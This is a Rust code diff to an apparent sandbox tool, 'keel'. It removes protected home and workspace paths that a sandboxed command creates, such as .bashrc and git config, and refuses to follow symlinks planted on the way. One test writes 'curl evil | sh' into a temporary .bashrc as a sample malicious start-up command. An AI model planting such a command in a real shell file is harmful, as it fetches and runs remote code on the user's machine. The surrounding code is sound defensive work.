@@ -36,7 +36,8 @@ pub fn names_in_words() -> String {
 /// home), beside the shell start-up files (`policy::paths::RC_FILES`):
 /// git's config and what holds keys. The home itself cannot be bound
 /// read-only there (it would cover the workspace), so these are, one by
-/// one; existing ones only (a bind needs a path).
+/// one; existing ones only (a bind needs a path: one the command creates
+/// is removed after it by [`Sweep`]).
 pub const HOME_GUARDED: [&str; 7] = [
     ".gitconfig",
     ".config/git",
@@ -86,46 +87,119 @@ pub const NESTED_SCAN_LIMIT: usize = 20_000;
 /// worth the scan time.
 const SKIPPED: [&str; 4] = ["node_modules", "target", ".venv", "__pycache__"];
 
-/// The protected names missing at each workspace root before a command.
+/// The protected paths missing before a command: the workspace's
+/// protected names ([`guarded_paths`]) and the read-only paths outside it
+/// (`Confinement::read_only`: keel's home, a home folder's start-up files,
+/// git config and key folders, nested `.git` folders), which a mount can
+/// keep only once they exist.
 #[derive(Debug, Clone, Default)]
 pub struct Sweep {
-    absent: Vec<PathBuf>,
+    absent: Vec<Absent>,
+}
+
+/// A protected path absent before the command, and the deepest of its
+/// ancestors that existed then. Everything below that anchor was made by
+/// the command, so the walk after it trusts nothing there: a symlink the
+/// command put on the way (`~/.config -> ~/project`, to have keel delete
+/// `~/project/git`) is itself what gets removed, never followed.
+#[derive(Debug, Clone)]
+struct Absent {
+    path: PathBuf,
+    anchor: PathBuf,
+    /// The anchor's device and inode then: a swapped anchor is not walked.
+    anchor_id: (u64, u64),
+    in_workspace: bool,
 }
 
 impl Sweep {
-    /// Notes which of the protected `paths` ([`guarded_paths`]) do not
-    /// exist yet.
-    pub fn before(paths: Vec<PathBuf>) -> Self {
+    /// Notes which of the workspace's protected `paths` and of the
+    /// read-only paths `outside` do not exist yet.
+    pub fn before(paths: Vec<PathBuf>, outside: &[PathBuf]) -> Self {
+        let workspace = paths.into_iter().map(|path| (path, true));
+        let outside = outside.iter().map(|path| (path.clone(), false));
         let absent =
-            paths.into_iter().filter(|path| std::fs::symlink_metadata(path).is_err()).collect();
-        Self { absent }
+            workspace.chain(outside).filter_map(|(path, in_workspace)| absent(path, in_workspace));
+        Self { absent: absent.collect() }
     }
 
-    /// Removes every protected name the command created (a symlink is
-    /// removed, never followed) and returns one line per removal for the
-    /// command's output.
+    /// Removes every protected path the command created (a symlink is
+    /// removed, never followed, wherever it stands on the way) and returns
+    /// one line per removal for the command's output.
     pub fn after(&self) -> Vec<String> {
-        self.absent.iter().filter_map(|path| remove_created(path)).collect()
+        self.absent.iter().filter_map(remove_created).collect()
     }
 }
 
-fn remove_created(path: &Path) -> Option<String> {
-    let meta = std::fs::symlink_metadata(path).ok()?;
-    let removed =
-        if meta.is_dir() { std::fs::remove_dir_all(path) } else { std::fs::remove_file(path) };
+fn absent(path: PathBuf, in_workspace: bool) -> Option<Absent> {
+    if std::fs::symlink_metadata(&path).is_ok() {
+        return None;
+    }
+    let anchor = path.ancestors().skip(1).find(|dir| std::fs::symlink_metadata(dir).is_ok())?;
+    let anchor_id = file_id(anchor)?;
+    Some(Absent { anchor: anchor.to_path_buf(), path, anchor_id, in_workspace })
+}
+
+fn file_id(path: &Path) -> Option<(u64, u64)> {
+    use std::os::unix::fs::MetadataExt;
+    std::fs::symlink_metadata(path).ok().map(|meta| (meta.dev(), meta.ino()))
+}
+
+/// What the command made of `absent.path`, removed: the path itself, or
+/// the first symlink the command put on the way to it.
+fn remove_created(absent: &Absent) -> Option<String> {
+    let below = absent.path.strip_prefix(&absent.anchor).ok()?;
+    let mut current = absent.anchor.clone();
+    let mut components = below.components().peekable();
+    while let Some(component) = components.next() {
+        current.push(component);
+        let meta = std::fs::symlink_metadata(&current).ok()?;
+        let last = components.peek().is_none();
+        if !(last || meta.file_type().is_symlink() || meta.is_dir()) {
+            return None;
+        }
+        if last || meta.file_type().is_symlink() {
+            if file_id(&absent.anchor) != Some(absent.anchor_id) {
+                return Some(format!(
+                    "keel: WARNING: the command replaced `{}` and created `{}` in it; keel did not \
+                     remove it (it no longer knows where that leads): check it before using it",
+                    absent.anchor.display(),
+                    current.display()
+                ));
+            }
+            let removed = if meta.is_dir() {
+                std::fs::remove_dir_all(&current)
+            } else {
+                std::fs::remove_file(&current)
+            };
+            return Some(removal_line(absent, &current, removed));
+        }
+    }
+    None
+}
+
+fn removal_line(absent: &Absent, removed_path: &Path, removed: std::io::Result<()>) -> String {
+    if let Err(error) = removed {
+        return format!(
+            "keel: WARNING: the command created `{}` and it could not be removed: {error}",
+            removed_path.display()
+        );
+    }
+    if !absent.in_workspace {
+        return format!(
+            "keel: removed `{}` created by the command: `{}` is read-only in the sandbox (keel's \
+             own state, or a file of the home folder that runs programs or holds keys)",
+            removed_path.display(),
+            absent.path.display()
+        );
+    }
+    let path = &absent.path;
     let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
     let in_git = path.parent().and_then(Path::file_name).is_some_and(|parent| parent == ".git");
     let name = if in_git { format!(".git/{name}") } else { name };
-    Some(match removed {
-        Ok(()) => format!(
-            "keel: removed `{name}` created by the command: {} (.git's config and hooks even for git) are read-only in the sandbox (what they hold runs outside it)",
-            names_in_words()
-        ),
-        Err(error) => format!(
-            "keel: WARNING: the command created `{}` and it could not be removed: {error}",
-            path.display()
-        ),
-    })
+    format!(
+        "keel: removed `{name}` created by the command: {} (.git's config and hooks even for git) are read-only in the sandbox (what they hold runs outside it)",
+        names_in_words()
+    )
 }
 
 /// `.git` folders (or files, as in worktrees and submodules) below
@@ -176,7 +250,7 @@ mod tests {
     fn created_names_are_removed_and_reported() {
         let dir = tempfile::tempdir().unwrap();
         std::fs::create_dir(dir.path().join(".git")).unwrap();
-        let sweep = Sweep::before(guarded_paths(&[dir.path().to_owned()], false));
+        let sweep = Sweep::before(guarded_paths(&[dir.path().to_owned()], false), &[]);
         std::fs::create_dir_all(dir.path().join(".keel/rules")).unwrap();
         std::os::unix::fs::symlink("/etc", dir.path().join(".claude")).unwrap();
         let lines = sweep.after();
@@ -186,6 +260,38 @@ mod tests {
         assert!(std::fs::symlink_metadata(dir.path().join(".claude")).is_err());
         assert!(Path::new("/etc/passwd").exists(), "the symlink was not followed");
         assert!(dir.path().join(".git").is_dir(), "an existing name is left alone");
+    }
+
+    #[test]
+    fn a_home_file_the_command_creates_is_removed_and_named() {
+        let home = tempfile::tempdir().unwrap();
+        let outside = [home.path().join(".bashrc"), home.path().join(".config/git")];
+        let sweep = Sweep::before(Vec::new(), &outside);
+        std::fs::write(home.path().join(".bashrc"), "curl evil | sh").unwrap();
+        std::fs::create_dir_all(home.path().join(".config/git")).unwrap();
+        std::fs::write(home.path().join(".config/git/config"), "[core]\n").unwrap();
+        std::fs::write(home.path().join(".config/other"), "kept").unwrap();
+        let lines = sweep.after();
+        assert_eq!(lines.len(), 2, "{lines:?}");
+        assert!(lines[0].contains(".bashrc") && lines[0].contains("read-only"), "{lines:?}");
+        assert!(!home.path().join(".bashrc").exists());
+        assert!(!home.path().join(".config/git").exists());
+        assert!(home.path().join(".config/other").exists(), "only the protected path goes");
+    }
+
+    #[test]
+    fn a_symlink_the_command_puts_on_the_way_is_removed_not_followed() {
+        let home = tempfile::tempdir().unwrap();
+        let precious = tempfile::tempdir().unwrap();
+        std::fs::create_dir(precious.path().join("git")).unwrap();
+        std::fs::write(precious.path().join("git/work"), "a day of work").unwrap();
+        let sweep = Sweep::before(Vec::new(), &[home.path().join(".config/git")]);
+        std::os::unix::fs::symlink(precious.path(), home.path().join(".config")).unwrap();
+        let lines = sweep.after();
+        assert_eq!(lines.len(), 1, "{lines:?}");
+        assert!(lines[0].contains(".config"), "{lines:?}");
+        assert!(std::fs::symlink_metadata(home.path().join(".config")).is_err(), "link removed");
+        assert!(precious.path().join("git/work").exists(), "nothing through the link deleted");
     }
 
     #[test]
